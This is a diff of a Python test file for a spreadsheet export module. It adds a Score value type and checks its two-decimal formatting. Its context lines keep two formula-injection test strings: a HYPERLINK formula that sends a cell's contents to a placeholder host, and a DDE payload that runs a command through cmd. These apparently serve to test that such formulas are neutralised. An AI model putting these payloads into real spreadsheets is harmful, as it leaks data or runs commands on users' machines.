@@ -25,7 +25,7 @@ from tasks.tests.factories import assign
 from tasks.weekly import weekly_summary_run
 from units.tests.support import Q3, file_report
 from units.workcalendar import Week
-from units.xlsx import FORMULA_STARTS, LINE_HEIGHT, MAX_ROW_HEIGHT, Percent, Sheet, build_sheets, build_workbook
+from units.xlsx import FORMULA_STARTS, LINE_HEIGHT, MAX_ROW_HEIGHT, Percent, Score, Sheet, build_sheets, build_workbook
 
 HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào đây")'
 DDE = "=cmd|' /C calc'!A0"
@@ -194,17 +194,18 @@ def test_percent_is_a_fraction_formatted_as_percent():
 def test_numbers_dates_and_booleans():
     aware = datetime.fromisoformat("2026-11-02T01:30:00+00:00")  # 08:30 in Vietnam
     sheet = _one(
-        [[1234567, 2.25, Decimal("3.5"), True, date(2026, 1, 2), aware]],
-        widths=(10, 10, 10, 10, 12, 16),
-        headers=("a", "b", "c", "d", "e", "f"),
+        [[1234567, 2.25, Decimal("3.5"), True, date(2026, 1, 2), aware, Score(Decimal("68.54"))]],
+        widths=(10, 10, 10, 10, 12, 16, 8),
+        headers=("a", "b", "c", "d", "e", "f", "g"),
     )
-    a, b, c, d, e, f = sheet[4]
+    a, b, c, d, e, f, g = sheet[4]
     assert (a.value, a.number_format, a.alignment.horizontal) == (1234567, "#,##0", "right")
     assert (b.value, b.number_format, b.alignment.horizontal) == (2.25, "#,##0.0", "right")
     assert (c.value, c.number_format, c.alignment.horizontal) == (3.5, "#,##0.0", "right")
     assert d.value is True and d.alignment.horizontal != "right"
     assert e.is_date and e.value == datetime(2026, 1, 2) and e.number_format == "DD/MM/YYYY"
     assert f.is_date and f.value == datetime(2026, 11, 2, 8, 30) and f.number_format == "DD/MM/YYYY HH:MM"
+    assert (g.value, g.number_format, g.alignment.horizontal) == (68.54, "#,##0.00", "right")
 
 
 def test_row_heights_fit_wrapped_text():
